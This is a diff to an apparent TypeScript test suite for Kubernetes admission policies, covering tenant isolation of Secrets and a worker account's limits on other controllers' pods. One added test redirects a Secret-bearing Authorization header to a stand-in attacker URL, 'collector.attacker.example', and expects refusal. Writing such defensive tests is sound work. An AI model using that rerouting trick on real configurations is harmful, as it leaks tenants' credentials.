@@ -8,9 +8,11 @@
  * - ImageList pull secrets: a user who may write ImageLists and read tenant-a's Secrets names tenant-a's Secret
  *   but not tenant-b's; an entry another writer left in place does not block that user's update.
  * - App analysis headers: the same user may take a header's value from a Secret of tenant-a, not of tenant-b,
- *   and may still edit a tenant-b App whose header an admin pointed at tenant-b's Secret.
+ *   and may still edit a tenant-b App whose header an admin pointed at tenant-b's Secret, but not send that
+ *   header to another URL (or under another name or key).
  * - The worker (its service account, impersonated): no pod without an App controller reference, nothing in
- *   kube-system or its own namespace; App-owned pods and revisions, adoption and release are admitted.
+ *   kube-system or its own namespace, no pod of another controller taken over or deleted; App-owned pods and
+ *   revisions, adoption of orphans and release are admitted.
  */
 import { randomBytes } from 'node:crypto';
 import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
@@ -173,7 +175,13 @@ describe("deploy/'s admission policies", () => {
   });
 
   /** An App of `namespace` with one web check whose Authorization header comes from Secret `secret`. */
-  const analysed = (namespace: string, name: string, secret: string, replicas = 0): unknown => ({
+  const analysed = (
+    namespace: string,
+    name: string,
+    secret: string,
+    replicas = 0,
+    { url = 'http://metrics.example/', header = 'Authorization', key = 'token' } = {},
+  ): unknown => ({
     apiVersion: API_VERSION,
     kind: APP_KIND,
     metadata: { name, namespace },
@@ -189,8 +197,8 @@ describe("deploy/'s admission policies", () => {
               {
                 name: 'errors',
                 web: {
-                  url: 'http://metrics.example/',
-                  headers: [{ name: 'Authorization', valueFrom: { secretKeyRef: { name: secret, key: 'token' } } }],
+                  url,
+                  headers: [{ name: header, valueFrom: { secretKeyRef: { name: secret, key } } }],
                   successCondition: 'result == 0',
                 },
               },
@@ -218,6 +226,16 @@ describe("deploy/'s admission policies", () => {
     );
     expect(await refused(as(writer(), ['apply', '--server-side', '--force-conflicts'], analysed(tenantB, 'checked', 'other', 2)))).toContain(
       'may take its value only from a Secret',
+    );
+    // The same Secret sent somewhere else is naming it anew: another URL (the writer's own server), another header
+    // name or another key of it. Only the unchanged (URL, header, Secret, key) is exempt.
+    for (const moved of [{ url: 'http://collector.attacker.example/' }, { header: 'X-Token' }, { key: 'password' }])
+      expect(
+        await refused(as(writer(), ['apply', '--server-side', '--force-conflicts'], analysed(tenantB, 'checked', 'registry', 2, moved))),
+        JSON.stringify(moved),
+      ).toContain('may take its value only from a Secret');
+    await expect(as(writer(), ['apply', '--server-side', '--force-conflicts'], analysed(tenantB, 'checked', 'registry', 3))).resolves.toContain(
+      'serverside-applied',
     );
   });
 
@@ -252,8 +270,34 @@ describe("deploy/'s admission policies", () => {
     expect(await refused(as(worker(), ['create'], pod(own, 'owned', [appRef])))).toContain(`may not write in namespace ${own}`);
     // A pod another controller made is not the worker's to delete or adopt away.
     await rest.create(core('pods', tenantA), pod(tenantA, 'theirs'));
-    expect(await refused(as(worker(), ['delete', 'pod', 'theirs', '-n', tenantA]))).toContain('only change or delete objects an App controls');
-    expect(await refused(as(worker(), ['label', 'pod', 'theirs', '-n', tenantA, 'x=y']))).toContain('only change or delete objects an App controls');
+    expect(await refused(as(worker(), ['delete', 'pod', 'theirs', '-n', tenantA]))).toContain('only delete objects an App controls');
+    expect(await refused(as(worker(), ['label', 'pod', 'theirs', '-n', tenantA, 'x=y']))).toContain('only change objects an App controls');
+  });
+
+  it("refuses the worker's identity another controller's pod: neither taken over by an App nor deleted, nor handed to it", async () => {
+    // Another controller (a Deployment of no replicas, which never touches pods itself) controls `taken`.
+    const deployment = await rest.create<Stored<{ metadata: { uid: string } }>>(
+      { group: 'apps', version: 'v1', resource: 'deployments', namespace: tenantA },
+      {
+        apiVersion: 'apps/v1',
+        kind: 'Deployment',
+        metadata: { name: 'other' },
+        spec: {
+          replicas: 0,
+          selector: { matchLabels: { app: 'other' } },
+          template: { metadata: { labels: { app: 'other' } }, spec: { containers: [{ name: 'main', image: 'registry.example.com/app:1' }] } },
+        },
+      },
+    );
+    const otherRef = { apiVersion: 'apps/v1', kind: 'Deployment', name: 'other', uid: deployment.metadata.uid, controller: true };
+    await rest.create(core('pods', tenantA), pod(tenantA, 'taken', [otherRef]));
+    const takeOver = JSON.stringify({ metadata: { ownerReferences: [appRef] } });
+    expect(await refused(as(worker(), ['patch', 'pod', 'taken', '-n', tenantA, '--type', 'merge', '-p', takeOver]))).toContain('never another controller');
+    expect(await refused(as(worker(), ['delete', 'pod', 'taken', '-n', tenantA]))).toContain('only delete objects an App controls');
+    // Nor may the worker give an App's pod to another controller.
+    await rest.create(core('pods', tenantA), pod(tenantA, 'web-given', [appRef]));
+    const handOver = JSON.stringify({ metadata: { ownerReferences: [otherRef] } });
+    expect(await refused(as(worker(), ['patch', 'pod', 'web-given', '-n', tenantA, '--type', 'merge', '-p', handOver]))).toContain('never another controller');
   });
 
   it('admits the worker on what an App owns: create, adopt, release, delete', async () => {
